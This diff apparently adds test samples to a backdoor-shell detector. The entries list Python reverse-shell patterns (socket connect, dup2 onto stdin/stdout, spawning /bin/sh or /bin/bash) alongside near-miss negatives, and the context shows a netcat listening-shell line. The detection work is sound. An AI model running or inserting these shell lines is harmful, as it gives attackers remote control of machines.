@@ -67,6 +67,39 @@ std::vector<Sample> backdoor_samples() {
         "cp/0/h/4444\"",
         "while ((c |"
         "& getline l) > 0)"}},
+      {"backdoor_python_shell",
+       "",
+       {"s.connect((HOST, PORT))",
+        "os.dup2(s.fil"
+        "eno(), 0)",
+        "os.dup2(s.fil"
+        "eno(), 1)",
+        "subprocess.call([\"/bin/s"
+        "h\", \"-i\"])"},
+       {// a daemon with its log, that runs a job
+        "s.connect((host, port))\nos.dup2(log.fileno(), 0)\nos.dup2(log.fileno(), 1)\n"
+        "subprocess.call([\"/bin/sh\", \"-i\"])",
+        "s.connect((host, port))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n"
+        "subprocess.call([\"/bin/sh\", \"-c\", job])",
+        // as inetd starts a server
+        "s.connect((host, port))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n"
+        "subprocess.call([\"/usr/sbin/sshd\", \"-i\"])",
+        // what a template of a tool looks like before it is filled in
+        "s.connect(('${lhost}', ${lport}))\nos.dup2(s.fil"
+        "eno(), 0)\nos.dup2(s.fileno(), 1)\n"
+        "pty.spa"
+        "wn('/bin/sh')"},
+       "srv/app/agent.py"},
+      {"backdoor_python_shell",
+       "#!/usr/bin/python3\n",
+       {"s=socket.create_conn"
+        "ection((sys.argv[1],int(sys.argv[2])))",
+        "[os.dup2(s.fil"
+        "eno(),fd) for fd in (0,1,2)]",
+        "pty.spa"
+        "wn('/bin/bash')"},
+       {"s=socket.create_connection((sys.argv[1],int(sys.argv[2])))\npty.spa"
+        "wn('/bin/bash')"}},
       {"backdoor_listening_shell",
        kShebang,
        {"nc -l -p 4444 -e /bin/"
